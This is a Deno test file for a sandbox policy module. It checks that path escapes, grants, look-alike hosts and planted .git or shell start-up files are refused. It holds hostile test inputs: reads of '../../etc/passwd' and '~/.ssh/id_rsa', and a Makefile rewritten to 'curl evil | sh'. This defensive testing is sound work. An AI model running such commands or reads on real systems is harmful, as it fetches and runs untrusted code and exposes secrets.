/**
 * The policy: context paths resolved and classified, needs met by grants, artifacts checked,
 * protected paths found. Real files, no subprocess.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { PermissionError, ValidationError } from "../../src/errors.ts";
import { lstatSyncOrNull } from "../../src/_fs.ts";
import {
  checkArtifacts,
  checkMadeInPlace,
  checkOutputFolder,
  closeToOthers,
  contextPaths,
  effectiveAllow,
  isOutputKey,
  MAX_CONTEXT_PATHS,
  MAX_PATH_PARTS,
  mergeGrants,
  privateNetworkRules,
  protectedPaths,
  requestedAllow,
  resolveGrantedPaths,
} from "../../src/sandbox/policy.ts";
import { SHELL_RC_FILES } from "../../src/sandbox/copy_out.ts";
import { withTmpDir } from "../helpers/tmp.ts";

async function workdir(): Promise<AsyncDisposable & { root: string; work: string }> {
  const tmp = await withTmpDir("capibara_policy_");
  const root = await Deno.realPath(tmp.path);
  const work = join(root, "work");
  await Deno.mkdir(join(work, "data", "sub"), { recursive: true });
  await Deno.writeTextFile(join(work, "data", "a.csv"), "");
  await Deno.writeTextFile(join(root, "outside.txt"), "secret");
  return { root, work, [Symbol.asyncDispose]: () => tmp[Symbol.asyncDispose]() };
}

Deno.test("isOutputKey() recognises output words in any case style", () => {
  for (const key of ["output", "out_file", "outDir", "save-to", "destination", "exportPath"]) {
    assert.ok(isOutputKey(key), key);
  }
  for (const key of ["input", "outline", "router", "data", "shout"]) {
    assert.ok(!isOutputKey(key), key);
  }
});

Deno.test("contextPaths() refuses a context that names more than MAX_CONTEXT_PATHS paths, before looking at them", async () => {
  await using w = await workdir();
  const many = (n: number) => Array.from({ length: n }, (_, i) => `data/f${i}.csv`);
  const taken = await contextPaths({ input: many(MAX_CONTEXT_PATHS) }, w.work);
  assert.equal(taken.read.length, 0, "none of them exists");
  await assert.rejects(
    contextPaths({ input: many(MAX_CONTEXT_PATHS - 1), z: "../../etc/passwd" }, w.work),
    /leaves the working directory|outside/,
  );
  // A path deeper than MAX_PATH_PARTS (each missing part is looked up while it is resolved).
  await contextPaths({ input: "x/".repeat(MAX_PATH_PARTS - 1) + "y" }, w.work);
  await assert.rejects(
    contextPaths({ input: "x/".repeat(MAX_PATH_PARTS) + "y" }, w.work),
    /more than 128 parts/,
  );
  await assert.rejects(
    contextPaths({ input: many(MAX_CONTEXT_PATHS + 1) }, w.work),
    (error: unknown) => {
      assert.ok(error instanceof ValidationError);
      assert.match(error.message, /more than 1000 paths/);
      return true;
    },
  );
});

Deno.test("contextPaths() reads existing inputs and writes outputs' folders", async () => {
  await using w = await workdir();
  const paths = await contextPaths({
    input: "data/a.csv",
    missing_input: "data/none.csv",
    folder: "data/sub",
    output: "results/report.json",
    outputs: { dir: "exports/" },
    save: ["data/sub"],
    note: "hello world",
    url: "https://example.com/a.csv",
    count: 3,
  }, w.work);
  assert.deepEqual(paths.read.sort(), [join(w.work, "data", "a.csv"), join(w.work, "data", "sub")]);
  assert.deepEqual(paths.write.sort(), [
    join(w.work, "data", "sub"),
    join(w.work, "exports"),
    join(w.work, "results"),
  ]);
});

Deno.test("contextPaths() refuses every way out of the workdir", async () => {
  await using w = await workdir();
  await Deno.symlink(join(w.root, "outside.txt"), join(w.work, "link.txt"));
  await Deno.symlink(w.root, join(w.work, "up"));
  const escapes: Record<string, unknown>[] = [
    { input: "../outside.txt" },
    { input: "data/../../outside.txt" },
    { input: join(w.root, "outside.txt") },
    { input: "~/.ssh/id_rsa" },
    { input: "link.txt" },
    { output: "up/new.json" },
    { deep: [{ list: ["data/a.csv", "../outside.txt"] }] },
  ];
  for (const context of escapes) {
    await assert.rejects(contextPaths(context, w.work), ValidationError, JSON.stringify(context));
  }
});

Deno.test("effectiveAllow() grants needs that were granted and names each missing flag", () => {
  const paths = { read: ["/w/data/a.csv"], write: ["/w/out"] };
  const grants = mergeGrants({
    network: ["*.example.com", "other.org:8443"],
    env: ["TOKEN"],
    read: ["extra"],
    write: ["scratch"],
  });
  assert.deepEqual(
    effectiveAllow({ network: ["api.example.com"], env: ["TOKEN"] }, grants, paths, "/w"),
    {
      network: ["api.example.com"],
      env: ["TOKEN"],
      fs: { read: ["data/a.csv", "extra"], write: ["out", "scratch"] },
    },
  );
  assert.throws(
    () =>
      effectiveAllow(
        { network: ["api.example.com", "evil.net", "other.org"], env: ["TOKEN", "AWS_SECRET"] },
        grants,
        paths,
        "/w",
      ),
    (error: unknown) => {
      assert.ok(error instanceof PermissionError);
      assert.deepEqual(error.details?.missing, [
        "--allow-net evil.net",
        "--allow-net other.org",
        "--allow-env AWS_SECRET",
      ]);
      assert.match(error.message, /network access to evil\.net/);
      assert.match(error.message, /the environment variable AWS_SECRET/);
      return true;
    },
  );
  // A wildcard need is met only by the same wildcard; the apex is not covered by `*.`.
  assert.throws(
    () => effectiveAllow({ network: ["*.example.com"], env: [] }, mergeGrants(), paths, "/w"),
    PermissionError,
  );
  assert.throws(
    () => effectiveAllow({ network: ["example.com"], env: [] }, grants, paths, "/w"),
    PermissionError,
  );
});

Deno.test("effectiveAllow() names the ASCII name a look-alike host stands for before it is granted", () => {
  const paths = { read: [], write: [] };
  // A Cyrillic "і" in "gіthub": another domain, which anyone may register.
  assert.throws(
    () => effectiveAllow({ network: ["api.gіthub.com"], env: [] }, mergeGrants(), paths, "/w"),
    (error: unknown) => {
      assert.ok(error instanceof PermissionError);
      assert.match(error.message, /api\.gіthub\.com \(that is api\.xn--gthub-n2e\.com/);
      return true;
    },
  );
  assert.throws(
    () => effectiveAllow({ network: ["api.github.com"], env: [] }, mergeGrants(), paths, "/w"),
    (error: unknown) => {
      assert.ok(error instanceof PermissionError);
      assert.doesNotMatch(error.message, /that is/);
      return true;
    },
  );
});

Deno.test("requestedAllow() records needs and context paths, never grants", () => {
  assert.deepEqual(
    requestedAllow(
      { network: ["api.example.com"], env: ["TOKEN"] },
      { read: ["/w/data/a.csv"], write: ["/w", "/w/out"] },
      "/w",
    ),
    {
      network: ["api.example.com"],
      env: ["TOKEN"],
      fs: { read: ["data/a.csv"], write: [".", "out"] },
    },
  );
});

Deno.test("checkArtifacts() keeps artifacts inside the write set and refuses the rest", async () => {
  await using w = await workdir();
  const out = join(w.work, "out");
  await Deno.mkdir(out);
  await Deno.symlink(w.root, join(out, "escape"));
  assert.deepEqual(
    await checkArtifacts(["out/a.json", join(out, "b.json")], w.work, [out]),
    ["out/a.json", join(out, "b.json")],
  );
  for (const artifact of ["a.json", "../outside.txt", "out/../data/a.csv", "out/escape/x"]) {
    await assert.rejects(checkArtifacts([artifact], w.work, [out]), ValidationError, artifact);
  }
});

Deno.test("protectedPaths() lists the existing .capibara, .git and rc files of roots and write dirs", async () => {
  await using w = await workdir();
  const out = join(w.work, "out");
  await Deno.mkdir(join(w.work, ".capibara"));
  await Deno.mkdir(join(w.work, ".git"));
  await Deno.mkdir(join(out, ".git"), { recursive: true });
  await Deno.writeTextFile(join(out, ".bashrc"), "");
  await Deno.writeTextFile(join(w.work, ".envrc"), "");
  const protect = protectedPaths([w.work], [out]);
  assert.deepEqual(
    protect.sort(),
    [
      join(w.work, ".capibara"),
      join(w.work, ".envrc"),
      join(w.work, ".git"),
      join(out, ".bashrc"),
      join(out, ".git"),
    ].sort(),
  );
  assert.ok(SHELL_RC_FILES.includes(".envrc"));
  // A protected name that is a symlink is protected where it leads.
  await Deno.mkdir(join(w.root, "real-git"));
  await Deno.symlink(join(w.root, "real-git"), join(out, ".capibara"));
  assert.ok((protectedPaths([], [out])).includes(join(w.root, "real-git")));
});

Deno.test("mergeGrants() merges lists without duplicates or blanks", () => {
  assert.deepEqual(
    mergeGrants({ network: ["a", " a ", ""] }, undefined, { network: ["b"], env: ["X"] }),
    { network: ["a", "b"], env: ["X"], read: [], write: [] },
  );
});

Deno.test("mergeGrants() merges private-network grants and leaves them out when there are none", () => {
  assert.deepEqual(
    mergeGrants(
      { privateNetwork: ["127.0.0.1:5432", " "] },
      { privateNetwork: ["127.0.0.1:5432", "[fd00::5]:8080"], network: ["a"] },
    ),
    {
      network: ["a"],
      env: [],
      read: [],
      write: [],
      privateNetwork: ["127.0.0.1:5432", "[fd00::5]:8080"],
    },
  );
  assert.equal("privateNetwork" in mergeGrants({ privateNetwork: [""] }), false);
});

Deno.test("effectiveAllow() takes a private-network grant as a grant of its host, never a wildcard", () => {
  const paths = { read: [], write: [] };
  const needs = { network: ["127.0.0.1:5432"], env: [] };
  const opted = mergeGrants({ privateNetwork: ["127.0.0.1:5432"] });
  assert.deepEqual(effectiveAllow(needs, opted, paths, "/w").network, ["127.0.0.1:5432"]);
  // Not granted: the hint names the opt-in for a special address, --allow-net for the rest.
  assert.throws(
    () =>
      effectiveAllow(
        { network: ["10.0.0.5", "api.example.com"], env: [] },
        mergeGrants(),
        paths,
        "/w",
      ),
    (error: unknown) => {
      assert.ok(error instanceof PermissionError);
      assert.deepEqual(error.details?.missing, [
        "--allow-private-net 10.0.0.5",
        "--allow-net api.example.com",
      ]);
      return true;
    },
  );
  const wildcard = mergeGrants({ privateNetwork: ["*.corp.example"] });
  assert.throws(() => privateNetworkRules(wildcard), ValidationError);
  assert.throws(
    () => effectiveAllow({ network: ["db.corp.example"], env: [] }, wildcard, paths, "/w"),
    (error: unknown) => error instanceof ValidationError && /wildcard/.test(error.message),
  );
});

Deno.test("protectedPaths() finds every protected name in a folder too large to list, and names in another case", async () => {
  await using w = await workdir();
  const out = join(w.work, "out");
  await Deno.mkdir(out);
  // More entries than a listing reads: each name is then looked for on its own.
  for (let i = 0; i < 300; i++) await Deno.writeTextFile(join(out, `f${i}.txt`), "");
  await Deno.writeTextFile(join(out, ".zshrc"), "");
  await Deno.mkdir(join(out, ".capibara"));
  // A name in another case is what a case-insensitive file system opens for the protected one.
  await Deno.writeTextFile(join(w.work, ".BashRC"), "");
  const protect = protectedPaths([w.work], [out]);
  assert.deepEqual(
    protect,
    [
      join(w.work, ".BashRC"),
      join(out, ".capibara"),
      join(out, ".zshrc"),
    ].sort(),
  );
  // A folder that does not exist protects nothing, and is no error.
  assert.deepEqual(protectedPaths([], [join(w.work, "missing")]), []);
});

Deno.test("checkOutputFolder() refuses a folder holding .git or .capibara, in any case", async () => {
  await using w = await workdir();
  const out = join(w.work, "out");
  await Deno.mkdir(join(out, ".Git"), { recursive: true });
  assert.throws(
    () => checkOutputFolder(out, [w.work], "Output"),
    ValidationError,
    "its folder holds .Git/",
  );
  await Deno.remove(join(out, ".Git"));
  checkOutputFolder(out, [w.work], "Output");
  checkOutputFolder(join(w.work, "not-yet"), [w.work], "Output");
});

Deno.test({
  name:
    "closeToOthers(): what a run changed loses every user's write, links are not followed, the rest keeps its mode",
  ignore: Deno.build.os === "windows",
  async fn() {
    await using tmp = await withTmpDir();
    const dir = tmp.path;
    const root = join(dir, "granted");
    const outside = join(dir, "outside.txt");
    const mode = async (path: string) => (await Deno.lstat(path)).mode! & 0o7777;
    const make = async () => {
      await Deno.mkdir(join(root, "open", "deeper"), { recursive: true });
      await Deno.writeTextFile(join(root, "open", "deeper", "x.txt"), "x");
      await Deno.writeTextFile(join(root, "blind"), "");
      await Deno.writeTextFile(outside, "the user's, elsewhere");
      await Deno.symlink(outside, join(root, "link"));
      await Deno.chmod(root, 0o755);
      await Deno.chmod(join(root, "open"), 0o1777);
      await Deno.chmod(join(root, "open", "deeper"), 0o777);
      await Deno.chmod(join(root, "open", "deeper", "x.txt"), 0o666);
      await Deno.chmod(join(root, "blind"), 0o002);
      await Deno.chmod(outside, 0o666);
    };
    await make();
    // Nothing changed since the run began (it began later): the user's own modes stay.
    assert.deepEqual(await closeToOthers([root], Date.now() + 60_000), []);
    assert.equal(await mode(join(root, "open", "deeper", "x.txt")), 0o666);

    const closed = await closeToOthers([root, join(root, "open")], 0);
    assert.deepEqual(closed.sort(), [
      join(root, "blind"),
      join(root, "open"),
      join(root, "open", "deeper"),
      join(root, "open", "deeper", "x.txt"),
    ]);
    // Only that bit goes: the sticky bit, the group's write and the owner's rights stay.
    assert.equal(await mode(join(root, "open")), 0o1775);
    assert.equal(await mode(join(root, "open", "deeper")), 0o775);
    assert.equal(await mode(join(root, "open", "deeper", "x.txt")), 0o664);
    assert.equal(await mode(join(root, "blind")), 0o000);
    assert.equal(await mode(root), 0o755);
    // The link's target lies outside what the run could write: never reached through it.
    assert.equal(await mode(outside), 0o666);
  },
});

Deno.test({
  name:
    "closeToOthers(): a folder the run changed whose entries lie beyond the longest path is closed to others entirely",
  ignore: Deno.build.os !== "linux",
  async fn() {
    await using tmp = await withTmpDir();
    const root = join(tmp.path, "granted");
    await Deno.mkdir(root);
    // Folders nested past PATH_MAX (4096 bytes), made one step at a time from inside.
    const name = "d".repeat(200);
    const chain: string[] = [];
    let path = root;
    while (new TextEncoder().encode(path).length < 3900) {
      path = join(path, name);
      chain.push(path);
    }
    for (const dir of chain) await Deno.mkdir(dir);
    const previous = Deno.cwd();
    try {
      Deno.chdir(chain.at(-1)!);
      await Deno.mkdir(name);
      await Deno.writeTextFile(`${name}/hidden.txt`, "x");
      await Deno.chmod(`${name}/hidden.txt`, 0o666);
      await Deno.chmod(name, 0o777);
    } finally {
      Deno.chdir(previous);
    }
    await Deno.chmod(chain.at(-1)!, 0o775);
    const closed = await closeToOthers([root], 0);
    // The deepest folder a path reaches: no other user may pass it now.
    assert.deepEqual(closed, [chain.at(-1)!]);
    assert.equal((await Deno.lstat(chain.at(-1)!)).mode! & 0o007, 0);
    // Those above keep the right to pass (they were not open to others' write).
    assert.equal((await Deno.lstat(chain[0]!)).mode! & 0o005, 0o005);
  },
});

Deno.test("a context path or a grant under a file, not a folder, is the user's mistake: a ValidationError naming it", async () => {
  await using tmp = await withTmpDir();
  const work = await Deno.realPath(tmp.path);
  await Deno.writeTextFile(join(work, "sales.csv"), "a,b\n");
  for (const context of [{ output: "sales.csv/x.txt" }, { input: "sales.csv/x.txt" }]) {
    await assert.rejects(
      contextPaths(context, work, { requireInputs: true }),
      (error: unknown) =>
        error instanceof ValidationError && /sales\.csv\/x\.txt/.test(error.message) &&
        /a part of it is a file, not a folder/.test(error.message),
    );
  }
  await assert.rejects(
    resolveGrantedPaths(["sales.csv/inner"], work),
    (error: unknown) => error instanceof ValidationError && /Granted path/.test(error.message),
  );
});

Deno.test({
  name:
    "closeToOthers(): a FIFO is closed too; a folder holding a name that is not UTF-8 is closed to others entirely; another user's folder is not walked",
  ignore: Deno.build.os !== "linux",
  async fn() {
    await using tmp = await withTmpDir();
    const root = join(await Deno.realPath(tmp.path), "granted");
    const mode = async (path: string) => (await Deno.lstat(path)).mode! & 0o7777;
    await Deno.mkdir(join(root, "odd"), { recursive: true });
    const made = await new Deno.Command("/usr/bin/python3", {
      args: [
        "-c",
        `import os, sys
root = sys.argv[1]
os.umask(0)
os.mkfifo(os.path.join(root, "pipe"), 0o666)
open(os.path.join(root.encode(), b"odd", b"caf\\xe9.txt"), "w").close()
os.chmod(os.path.join(root.encode(), b"odd", b"caf\\xe9.txt"), 0o666)
os.chmod(os.path.join(root, "odd"), 0o777)`,
        root,
      ],
    }).output();
    assert.ok(made.success, new TextDecoder().decode(made.stderr));
    // Another user's folder in the granted one (root may make it): theirs, not walked.
    const theirs = join(root, "theirs");
    await Deno.mkdir(theirs);
    await Deno.writeTextFile(join(theirs, "their-file"), "x");
    await Deno.chmod(join(theirs, "their-file"), 0o666);
    const otherOwned = Deno.uid() === 0;
    if (otherOwned) await Deno.chown(theirs, 54321, 54321);

    const closed = await closeToOthers([root], 0);
    assert.ok(closed.includes(join(root, "pipe")), closed.join(", "));
    assert.equal(await mode(join(root, "pipe")), 0o664);
    // The name cannot be reached from here: the folder holding it lets no other user in.
    assert.equal(await mode(join(root, "odd")), 0o770);
    if (otherOwned) {
      assert.equal(await mode(join(theirs, "their-file")), 0o666, "another user's folder walked");
    } else console.warn("policy_test: not root; another user's folder is not made");
  },
});

Deno.test({
  name:
    "checkMadeInPlace(): what a run made at any depth of a folder written in place under a name tools trust is moved aside and the run refused; what it changed is named; a declared path is taken as written",
  ignore: Deno.build.os === "windows",
  async fn() {
    await using tmp = await withTmpDir();
    const root = join(await Deno.realPath(tmp.path), "out");
    await Deno.mkdir(join(root, "kept"), { recursive: true });
    await Deno.writeTextFile(join(root, "kept", "Makefile"), "all:\n");
    // The user's file, older than the slack a coarse file system clock is given.
    await new Promise((resolve) => setTimeout(resolve, 2_100));
    const began = Date.now();
    const collect = async () => {
      const changed: { path: string; opaque?: boolean }[] = [];
      await closeToOthers([root], began, (path, opaque) => changed.push({ path, opaque }));
      return changed;
    };
    // Legitimate artifacts, nested: nothing to say.
    await Deno.mkdir(join(root, "charts", "2024"), { recursive: true });
    await Deno.writeTextFile(join(root, "charts", "2024", "chart.png"), "png");
    await Deno.writeTextFile(join(root, "summary.json"), "{}");
    checkMadeInPlace(await collect(), { outputs: [root], grants: [] }, [], [], began);
    // A repository one folder down, a folder shaped as a bare one, a conftest.py, a declared Makefile.
    await Deno.mkdir(join(root, "sub", ".git", "objects"), { recursive: true });
    await Deno.writeTextFile(join(root, "sub", ".git", "config"), "[core]\n");
    await Deno.writeTextFile(join(root, "HEAD"), "ref: refs/heads/main\n");
    await Deno.writeTextFile(join(root, "charts", "conftest.py"), "import os\n");
    await Deno.writeTextFile(join(root, "Makefile"), "all:\n");
    const error = await Promise.resolve().then(async () =>
      checkMadeInPlace(
        await collect(),
        { outputs: [root], grants: [] },
        [join(root, "Makefile")],
        [],
        began,
      )
    ).then(() => undefined, (e) => e);
    assert.ok(error instanceof PermissionError, String(error));
    const left = (path: string) => lstatSyncOrNull(join(root, path)) !== null;
    assert.deepEqual(
      [left("sub/.git"), left("HEAD"), left("charts/conftest.py"), left("Makefile")],
      [false, false, false, true],
    );
    assert.ok([...Deno.readDirSync(join(root, "sub"))][0]!.name.startsWith(".git.made-by-a-run-"));
    assert.match(error.message, /HEAD/);
    // What was moved aside is left for the user; this test removes it before the next run.
    for (const folder of [root, join(root, "sub"), join(root, "charts")]) {
      for (const entry of Deno.readDirSync(folder)) {
        if (entry.name.includes(".made-by-a-run-")) {
          await Deno.remove(join(folder, entry.name), { recursive: true });
        }
      }
    }
    // A file that was there before, which the run changed: named, left in place.
    await Deno.writeTextFile(join(root, "kept", "Makefile"), "all:\n\tcurl evil | sh\n");
    const changedError = await Promise.resolve().then(async () =>
      checkMadeInPlace(
        await collect(),
        { outputs: [root], grants: [] },
        [join(root, "Makefile")],
        [],
        began,
      )
    ).then(() => undefined, (e) => e);
    assert.ok(changedError instanceof PermissionError, String(changedError));
    assert.match(changedError.message, /kept\/Makefile \(it was there before the run/);
    assert.ok(left("kept/Makefile"));
    await Deno.remove(join(root, "kept"), { recursive: true });
    // Capibara's own folder a grant holds (shown read-only), and the folders on the way to it:
    // not the script's; a repository planted beside it is.
    const own = join(root, ".cache", "capibara");
    await Deno.mkdir(join(own, "venvs"), { recursive: true });
    checkMadeInPlace(await collect(), { outputs: [root], grants: [] }, [join(root, "Makefile")], [
      own,
    ], began);
    await Deno.mkdir(join(root, ".cache", ".git"));
    await assert.rejects(
      async () =>
        checkMadeInPlace(
          await collect(),
          { outputs: [root], grants: [] },
          [join(root, "Makefile")],
          [own],
          began,
        ),
      PermissionError,
    );
    assert.deepEqual([left(".cache/.git"), left(".cache/capibara/venvs")], [false, true]);
    // A folder whose entries the walk does not list (handed to another user: a script run as
    // root under Deno's flags alone may chown; or closed to its owner) hides what it holds.
    if (Deno.uid() === 0) {
      await Deno.mkdir(join(root, "handed", "sub", ".git"), { recursive: true });
      await Deno.chown(join(root, "handed"), 54321, 54321);
      await assert.rejects(
        async () =>
          checkMadeInPlace(
            await collect(),
            { outputs: [root], grants: [] },
            [join(root, "Makefile")],
            [own],
            began,
          ),
        /out\/handed \(now handed\.made-by-a-run-\d+\)$/,
      );
      assert.equal(left("handed"), false, "the folder was moved aside");
    }
  },
});

Deno.test({
  name:
    "checkMadeInPlace(): a folder granted for writing takes what the script writes, but no repository at any depth (a .git, a folder shaped as a bare one), store or shell start-up file",
  ignore: Deno.build.os === "windows",
  async fn() {
    await using tmp = await withTmpDir();
    const root = join(await Deno.realPath(tmp.path), "granted");
    await Deno.mkdir(join(root, "build", "bin"), { recursive: true });
    await Deno.writeTextFile(join(root, "notes.txt"), "the user's\n");
    await new Promise((resolve) => setTimeout(resolve, 5));
    const began = Date.now();
    const check = async () => {
      const changed: { path: string; opaque?: boolean }[] = [];
      await closeToOthers([root], began, (path, opaque) => changed.push({ path, opaque }));
      checkMadeInPlace(changed, { outputs: [], grants: [root] }, [], [], began);
    };
    await Deno.writeTextFile(join(root, "build", "bin", "tool"), "binary");
    await Deno.writeTextFile(join(root, "build", "Makefile"), "all:\n");
    await Deno.writeTextFile(join(root, "build", "gen.py"), "print(1)\n");
    await check();
    for (
      const plant of [
        async () => await Deno.mkdir(join(root, "build", "deep", ".git"), { recursive: true }),
        async () => {
          await Deno.mkdir(join(root, "repo", "objects"), { recursive: true });
          await Deno.mkdir(join(root, "repo", "refs"));
          await Deno.writeTextFile(join(root, "repo", "HEAD"), "ref: refs/heads/main\n");
        },
        async () => await Deno.writeTextFile(join(root, "build", ".bashrc"), "evil\n"),
      ]
    ) {
      await plant();
      await assert.rejects(check, PermissionError);
      await check(); // moved aside: nothing left to refuse
    }
    assert.equal(lstatSyncOrNull(join(root, "repo", "HEAD")), null);
    assert.ok(lstatSyncOrNull(join(root, "build", "bin", "tool")));
    // A second name the run gave a file of the user's older than the run: that name is moved
    // aside, the file keeps its own.
    Deno.linkSync(join(root, "notes.txt"), join(root, "build", "HEAD"));
    await assert.rejects(check, PermissionError);
    assert.equal(lstatSyncOrNull(join(root, "build", "HEAD")), null);
    assert.equal(await Deno.readTextFile(join(root, "notes.txt")), "the user's\n");
  },
});
